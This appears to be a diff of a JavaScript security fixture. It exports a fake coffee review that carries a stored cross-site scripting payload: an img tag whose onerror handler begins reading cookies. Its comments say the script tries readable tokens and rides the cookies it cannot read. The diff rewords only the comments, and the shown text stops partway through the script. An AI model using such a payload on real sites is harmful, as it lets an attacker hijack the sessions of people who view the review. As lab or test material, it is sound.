@@ -1,8 +1,9 @@
-// VULNERABLE: what an attacker writes into a review. A picture that cannot be loaded runs the script in its attribute.
+// VULNERABLE: the review of an attacker. A picture that cannot load runs the script in its
+// attribute.
 
 /**
- * Takes what it can read, tries each piece elsewhere (without this browser's cookies), and rides
- * what it cannot read.
+ * Reads the tokens that scripts can read, tries each of them without this browser's cookies, and
+ * sends requests with the cookies that it cannot read.
  */
 export const REVIEW = `Lovely coffee! <img src="x" alt="" onerror="(async () => {
   const cookie = (name) => document.cookie.match(new RegExp(name + '=([^;]+)'))?.[1] ?? ''
